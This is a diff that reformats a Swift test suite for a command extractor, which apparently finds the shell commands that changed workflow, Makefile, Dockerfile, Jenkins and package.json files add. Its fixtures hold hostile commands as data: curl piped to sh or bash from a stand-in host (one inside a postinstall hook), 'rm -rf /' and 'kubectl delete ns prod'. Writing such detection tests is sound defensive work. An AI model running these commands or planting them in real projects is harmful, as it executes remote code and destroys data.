@@ -4,7 +4,8 @@ import Testing
 
 @Suite("Finding the commands a changed file adds")
 struct CommandExtractorTests {
-    static func commands(_ kind: FileKind, _ text: String, added: Set<Int>? = nil) -> [(line: Int?, programs: [String])] {
+    static func commands(_ kind: FileKind, _ text: String, added: Set<Int>? = nil) -> [(line: Int?, programs: [String])]
+    {
         let lines = Set(1...max(1, text.split(separator: "\n", omittingEmptySubsequences: false).count))
         return CommandExtractor().facts(
             kind: kind, path: "file", content: Array(text.utf8), addedLines: added ?? lines, commit: nil
@@ -37,7 +38,9 @@ struct CommandExtractorTests {
             kind: .githubWorkflow, path: ".github/workflows/ci.yml", content: Array(workflow.utf8),
             addedLines: Set(1...15), commit: nil)
         let commands = facts.compactMap { fact -> (Int?, [String])? in
-            if case .command(let command) = fact { return (command.line, command.pipelines.flatMap { $0.map(\.program) }) }
+            if case .command(let command) = fact {
+                return (command.line, command.pipelines.flatMap { $0.map(\.program) })
+            }
             return nil
         }
         #expect(commands.map(\.0) == [9, 12, 13, 15])
@@ -101,16 +104,19 @@ struct CommandExtractorTests {
         #expect(Self.commands(.makefile, makefile).map(\.line) == [2, 4])
         #expect(Self.commands(.makefile, makefile).map(\.programs) == [["terraform"], ["${MAKE}"]])
 
-        let dockerfile = "FROM alpine\nRUN apk add curl && \\\n    curl -s https://x.example | sh\nRUN [\"sh\", \"-c\", \"rm -rf /\"]\n"
+        let dockerfile =
+            "FROM alpine\nRUN apk add curl && \\\n    curl -s https://x.example | sh\nRUN [\"sh\", \"-c\", \"rm -rf /\"]\n"
         let docker = Self.commands(.dockerfile, dockerfile)
         #expect(docker.map(\.line) == [2, 3, 4])
         #expect(docker.last?.programs.contains("rm") == true)
 
-        let jenkins = "pipeline {\n  stages {\n    stage('x') { steps { sh 'make test'\n      sh(script: \"\"\"\n        kubectl delete ns prod\n      \"\"\") } }\n  }\n}\n"
+        let jenkins =
+            "pipeline {\n  stages {\n    stage('x') { steps { sh 'make test'\n      sh(script: \"\"\"\n        kubectl delete ns prod\n      \"\"\") } }\n  }\n}\n"
         #expect(Self.commands(.jenkinsfile, jenkins).map(\.programs) == [["make"], ["kubectl"]])
         #expect(Self.commands(.jenkinsfile, jenkins).map(\.line) == [3, 5])
 
-        let package = "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"build\": \"tsc\",\n    \"postinstall\": \"curl -s https://x.example | bash\"\n  }\n}\n"
+        let package =
+            "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"build\": \"tsc\",\n    \"postinstall\": \"curl -s https://x.example | bash\"\n  }\n}\n"
         #expect(Self.commands(.packageJSON, package).map(\.line) == [4, 5])
     }
 
